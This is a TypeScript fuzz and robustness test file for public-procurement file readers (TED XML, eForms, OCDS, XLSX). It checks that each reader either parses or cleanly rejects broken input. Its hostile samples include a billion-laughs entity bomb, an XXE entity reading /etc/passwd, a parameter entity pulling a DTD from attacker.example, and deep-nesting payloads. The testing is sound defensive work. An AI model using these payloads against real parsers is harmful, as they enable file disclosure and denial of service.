/**
 * Malformed, truncated and hostile files thrown at every reader and at detectFormat. A reader
 * must either read the file or reject it with FileRejectedError: never another exception, never
 * hang. Each property runs a bounded number of cases with a time limit per call.
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { detectFormat } from '../../src/formats/detect.ts';
import { readEforms } from '../../src/formats/eforms.ts';
import { readOcds } from '../../src/formats/ocds.ts';
import { readTedXml } from '../../src/formats/ted-xml.ts';
import { readXlsx } from '../../src/formats/xlsx.ts';
import { ENTITIES_REFUSED } from '../../src/formats/xml-stream.ts';
import type { ReaderOptions } from '../../src/formats/reader-options.ts';
import { FileRejectedError, type ReadResult } from '../../src/types.ts';
import { chunked, fixture } from './fixture-files.ts';

type Reader = (input: Uint8Array | AsyncIterable<Uint8Array>, options?: ReaderOptions) => Promise<ReadResult>;

const READERS: Record<string, Reader> = { 'ted-xml': readTedXml, eforms: readEforms, ocds: readOcds, xlsx: readXlsx };
const CALL_LIMIT_MS = 5000;
const encode = (text: string) => new TextEncoder().encode(text);

/** Reads a file to its end; 'read' or 'rejected', or throws whatever else went wrong. */
async function outcome(read: Reader, input: Uint8Array | AsyncIterable<Uint8Array>, options?: ReaderOptions): Promise<'read' | 'rejected'> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const limit = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`the reader did not finish within ${CALL_LIMIT_MS} ms`)), CALL_LIMIT_MS);
  });
  const run = (async () => {
    const result = await read(input, options);
    for await (const item of result.items) void item;
  })();
  try {
    await Promise.race([run, limit]);
    return 'read';
  } catch (error) {
    if (error instanceof FileRejectedError) return 'rejected';
    throw error;
  } finally {
    clearTimeout(timer);
  }
}

async function everyReaderCopes(bytes: Uint8Array): Promise<void> {
  const detected = detectFormat(bytes.subarray(0, 64 * 1024));
  expect(typeof detected === 'string' || typeof detected.unknown === 'string').toBe(true);
  for (const read of Object.values(READERS)) await outcome(read, bytes);
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<TED_EXPORT><CODED_DATA_SECTION><NOTICE_DATA><NO_DOC_OJS>&lol9;</NO_DOC_OJS></NOTICE_DATA></CODED_DATA_SECTION></TED_EXPORT>`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE ContractAwardNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ContractAwardNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:ContractAwardNotice-2"><x>&xxe;</x></ContractAwardNotice>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE TED_EXPORT [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<TED_EXPORT/>`;

const HOSTILE: Record<string, string> = {
  'billion laughs': BILLION_LAUGHS,
  'external entity': EXTERNAL_ENTITY,
  'parameter entity': PARAMETER_ENTITY,
  'undefined entity': '<TED_EXPORT>&nope;</TED_EXPORT>',
  'deep XML nesting': `<TED_EXPORT>${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}</TED_EXPORT>`,
  'huge attribute': `<ContractAwardNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:ContractAwardNotice-2" x="${'A'.repeat(2_000_000)}"/>`,
  'huge text': `<TED_EXPORT><CODED_DATA_SECTION><NOTICE_DATA><NO_DOC_OJS>${'9'.repeat(3_000_000)}</NO_DOC_OJS></NOTICE_DATA></CODED_DATA_SECTION></TED_EXPORT>`,
  'unclosed tags': '<TED_EXPORT><FORM_SECTION><F03_2014 CATEGORY="ORIGINAL"><AWARD_CONTRACT>',
  'two roots': '<TED_EXPORT/><TED_EXPORT/>',
  'unknown prefix': '<x:TED_EXPORT/>',
  'unsupported encoding': '<?xml version="1.0" encoding="EBCDIC-CP-US"?><TED_EXPORT/>',
  'deep JSON nesting': `{"releases":[${'['.repeat(100_000)}${']'.repeat(100_000)}]}`,
  'deep JSON line': `{"ocid":"x","awards":[{"id":"a","value":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}]}`,
  'JSON with huge string': `{"releases":[{"ocid":"${'o'.repeat(3_000_000)}"}]}`,
  'JSON lines with garbage': '{"ocid":"a","awards":[{"id":1}]}\n\u0000\u0001garbage\n',
  'releases that are not objects': '{"releases":[1,"two",null,[3],{"ocid":5,"awards":"none"}]}',
  'awards of every type':
    '{"releases":[{"ocid":"x","date":7,"awards":[1,null,{"id":{}},{"id":"a","value":{"amount":"NaN"},"suppliers":"s","items":[{"classification":7}]}],"parties":{"p":1},"tender":[]}]}',
};

describe('hostile and broken input', () => {
  let workbook: Uint8Array;
  const samples: Uint8Array[] = [];

  beforeAll(async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('registratie');
    sheet.addRow(['dossier_id', 'entiteit', 'gunningsdatum', 'bedrag_excl_btw', 'cpv']);
    sheet.addRow(['A-1', 'AWV', new Date(Date.UTC(2018, 2, 31)), 1000, 9310000]);
    workbook = new Uint8Array(await book.xlsx.writeBuffer());
    samples.push(
      workbook,
      fixture('ted-xml-legacy/22-086633-001-EXP.ted-r209.xml'),
      fixture('ted-xml-legacy/21-000061-001-EXP.eforms.xml'),
      fixture('eforms-sdk/notices/can_24_minimal.xml'),
      fixture('ocds-sample-data/ocds-213czf-000-00001.record-package.json'),
    );
  });

  it('refuses XML entity declarations in both XML readers', async () => {
    for (const document of [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY]) {
      await expect(readTedXml(encode(document))).rejects.toThrow(ENTITIES_REFUSED);
      await expect(readEforms(encode(document))).rejects.toThrow(ENTITIES_REFUSED);
    }
  });

  it('refuses absurdly deep nesting in XML and JSON', async () => {
    await expect(outcome(readTedXml, encode(HOSTILE['deep XML nesting']!))).resolves.toBe('rejected');
    await expect(readOcds(encode(HOSTILE['deep JSON nesting']!))).rejects.toThrow(/nested more than 100 levels deep/);
  });

  it('stops reading at the size limit, for buffers and for streams', async () => {
    const big = encode(HOSTILE['huge attribute']!);
    for (const read of Object.values(READERS)) {
      await expect(read(big, { maxBytes: 1_000_000 })).rejects.toThrow(/larger than the import limit of 976\.6 KB/);
      await expect(outcome(read, chunked(big, 65_536), { maxBytes: 1_000_000 })).resolves.toBe('rejected');
    }
  });

  for (const [name, document] of Object.entries(HOSTILE)) {
    it(`copes with ${name}`, async () => {
      await everyReaderCopes(encode(document));
    });
  }

  it('copes with random bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), async (bytes) => {
        await everyReaderCopes(bytes);
      }),
      { numRuns: 200 },
    );
  });

  it('copes with real files cut off at any point', async () => {
    await fc.assert(
      fc.asyncProperty(fc.nat({ max: samples.length - 1 }), fc.double({ min: 0, max: 1, noNaN: true }), async (which, where) => {
        const bytes = samples[which]!;
        await everyReaderCopes(bytes.subarray(0, Math.floor(bytes.length * where)));
      }),
      { numRuns: 200 },
    );
  });

  it('copes with real files with corrupted bytes', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: samples.length - 1 }),
        fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
        async (which, changes) => {
          const bytes = samples[which]!.slice();
          for (const [where, value] of changes) bytes[Math.floor(where * bytes.length)] = value;
          await everyReaderCopes(bytes);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('copes with hostile fragments spliced into real files', async () => {
    const fragments = ['<!DOCTYPE x [<!ENTITY e "e">]>', '&e;', ']]>', '<![CDATA[', '</TED_EXPORT>', '"', '{', '}', '\u0000', '\ud800', '<a b="', '\n'];
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: samples.length - 1 }),
        fc.double({ min: 0, max: 1, noNaN: true }),
        fc.constantFrom(...fragments),
        async (which, where, fragment) => {
          const bytes = samples[which]!;
          const at = Math.floor(bytes.length * where);
          const insert = encode(fragment);
          const spliced = new Uint8Array(bytes.length + insert.length);
          spliced.set(bytes.subarray(0, at));
          spliced.set(insert, at);
          spliced.set(bytes.subarray(at), at + insert.length);
          await everyReaderCopes(spliced);
        },
      ),
      { numRuns: 200 },
    );
  });
});
